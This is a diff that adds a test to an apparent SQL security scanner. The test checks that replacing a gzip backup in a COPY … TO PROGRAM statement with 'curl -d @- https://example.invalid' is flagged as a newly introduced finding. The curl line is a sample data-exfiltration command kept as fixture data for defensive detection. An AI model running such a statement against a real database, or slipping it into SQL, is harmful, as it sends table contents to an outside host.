@@ -90,6 +90,18 @@ def test_review_reports_what_the_new_version_adds(tmp_path: Path) -> None:
     assert report.exit_status == 1
 
 
+def test_review_reports_a_changed_statement_as_new(tmp_path: Path) -> None:
+    """COPY … PROGRAM 'gzip' become 'curl …' in the same place is introduced, not paired away with the old one."""
+    old = tmp_path / "old.sql"
+    new = tmp_path / "new.sql"
+    old.write_text("CREATE TABLE bids (id int);\nCOPY bids TO PROGRAM 'gzip > /backup/bids.gz';\n")
+    new.write_text("CREATE TABLE bids (id int);\nCOPY bids TO PROGRAM 'curl -d @- https://example.invalid';\n")
+    report = review(str(old), str(new))
+    states = sorted((e.state, e.finding.rule) for e in report.entries if e.finding.rule in PRIVILEGE_RULE_IDS)
+    assert states == [("fixed", "copy-program"), ("introduced", "copy-program")]
+    assert report.exit_status == 1
+
+
 def test_cli_check_exits_1_with_the_finding(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     """`bcastsim check` on a file with a COPY … PROGRAM prints the error and exits 1."""
     path = tmp_path / "hostile.sql"
